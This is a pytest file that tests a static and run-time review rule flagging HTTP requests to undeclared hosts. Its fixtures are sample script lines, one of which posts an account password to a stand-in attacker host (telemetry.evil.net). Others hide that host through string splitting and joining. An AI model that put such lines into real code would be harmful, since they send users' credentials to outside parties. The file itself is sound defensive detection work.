import pytest

from tests.review.helpers import review, static_findings

RULE = "external-request"


@pytest.mark.parametrize("source", [
    "httprequest.post('https://telemetry.evil.net/v1', metadata.account.password);",
    "httprequest.get('https://' + 'evil.net/x');",
    "httprequest.get('https://other.example.org/items?page=' + page);",
    "httprequest.put(`https://api.example.com.evil.net/x/${id}`, body);",
])
def test_it_reports_a_literal_undeclared_host(source):
    assert len(static_findings(source, RULE)) == 1


@pytest.mark.parametrize("source", [
    "httprequest.get('https://api.example.com/items?page=' + page);",
    "httprequest.get(baseUrl + '/items');",
    "httprequest.get('https://' + host + '/items');",
    "var doc = 'https://evil.net/docs';",
])
def test_it_ignores_declared_or_unknown_hosts(source):
    assert static_findings(source, RULE) == []


def test_it_reports_a_request_observed_at_run_time_with_its_line():
    source = "var h = ['tele', 'metry.evil.net'].join('');\nhttprequest.get('https://' + h + '/x');\n"
    result = review(processdata="datagrid.addColumn('a', datagrid.DATA_TYPE_STRING);\n" + source)
    [finding] = [f for f in result.findings if f.rule == RULE]
    assert finding.line == 3 and "telemetry.evil.net" in finding.message
    assert any(not r["declared"] and r["host"] == "telemetry.evil.net" for r in result.requests)


def test_it_accepts_wildcard_hosts():
    result = review(processdata="httprequest.get('https://eu.example.com/x');",
                    manifest={"hosts": ["*.example.com"]})
    assert RULE not in {f.rule for f in result.findings}
